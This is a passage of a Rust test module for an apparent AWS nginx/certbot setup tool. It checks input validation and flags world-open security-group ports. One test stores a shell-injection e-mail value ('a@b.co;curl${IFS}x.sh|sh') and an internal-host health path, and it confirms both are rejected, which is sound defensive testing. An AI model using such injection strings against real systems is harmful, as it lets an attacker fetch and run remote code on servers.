                format!("https://{}이(가) 동작합니다: {}", inp.api, said.ko),
            )),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(protocol: &str, from: i32, to: i32, cidr: &str) -> IngressRule {
        IngressRule {
            group_id: "sg-1".into(),
            protocol: protocol.into(),
            from_port: from,
            to_port: to,
            cidrs: vec![cidr.into()],
            source_groups: vec![],
        }
    }

    fn stored_input() -> serde_json::Value {
        let input = NginxInput {
            region: Region::parse("ap-northeast-2").unwrap(),
            instance_id: Some("i-0123456789abcdef0".into()),
            public_ip: Ipv4Addr::new(54, 180, 1, 2),
            app_port: 8000,
            health_path: HealthPath::parse("/health").unwrap(),
            api: DomainName::parse("api.team.com").unwrap(),
            zone_id: None,
            os: Os::Ubuntu,
            staging: false,
            email: Email::parse("kim@example.com").unwrap(),
            http_port: 80,
            https_port: 443,
        };
        serde_json::to_value(&input).unwrap()
    }

    fn fatal(r: Result<NginxInput, StepError>) -> UserError {
        match r {
            Err(StepError::Fatal(e)) => e,
            other => panic!("expected a fatal error, got {other:?}"),
        }
    }

    /// Issue 19: a run stored before the e-mail was typed, holding the finding's address, stops
    /// with the field's message instead of sending `certbot -m a@b.co;curl...` to the instance.
    #[test]
    fn a_stored_run_with_an_unsafe_email_or_health_path_fails_clearly() {
        let good = stored_input();
        assert_eq!(good["email"], "kim@example.com", "stored as the plain string, as before");
        let inp = decode_input(&good).unwrap();
        assert!(inp.script().unwrap().contains("-m 'kim@example.com' --agree-tos"));

        let mut old = good.clone();
        old["email"] = "a@b.co;curl${IFS}x.sh|sh".into();
        let e = fatal(decode_input(&old));
        assert!(e.what.contains("e-mail address stored with this run") && e.what.contains("nothing was sent"), "{e:?}");
        assert!(e.why.contains("cannot contain \";\""), "{e:?}");
        let ko = e.ko.as_deref().expect("Korean");
        assert!(ko.what.contains("이메일 주소") && ko.why.contains("이메일 주소에는"), "{e:?}");

        let mut old = good.clone();
        old["health_path"] = "//10.0.0.5:9200/_cat".into();
        let e = fatal(decode_input(&old));
        assert!(e.what.contains("health path") && e.why.contains("two slashes"), "{e:?}");

        let mut broken = good;
        broken["os"] = "windows".into();
        assert!(fatal(decode_input(&broken)).what.contains("cannot read this run's settings"));
    }

    #[test]
    fn world_open_ssh_databases_and_the_app_port_are_named() {
        let rules = vec![
            rule("tcp", 22, 22, "0.0.0.0/0"),
            rule("tcp", 3306, 3306, "::/0"),
            rule("tcp", 8080, 8080, "0.0.0.0/0"),
            rule("tcp", 5432, 5432, "10.0.0.0/16"),
        ];
        let r = risks(&rules, Some(8080));
        assert_eq!(r.len(), 3, "{r:?}");
        assert!(r.iter().any(|l| l.en.contains("port 22 (SSH)") && l.ko.contains("포트 22(SSH)")));
        assert!(r.iter().any(|l| l.en.contains("3306")));
        assert!(r.iter().any(|l| l.en.contains("app port 8080") && l.ko.contains("앱 포트 8080")));
        assert!(risks(&[rule("tcp", 443, 443, "0.0.0.0/0")], Some(8080)).is_empty());
        assert!(risks(&[rule("-1", -1, -1, "0.0.0.0/0")], None)[0].en.contains("ALL traffic"));
    }
}
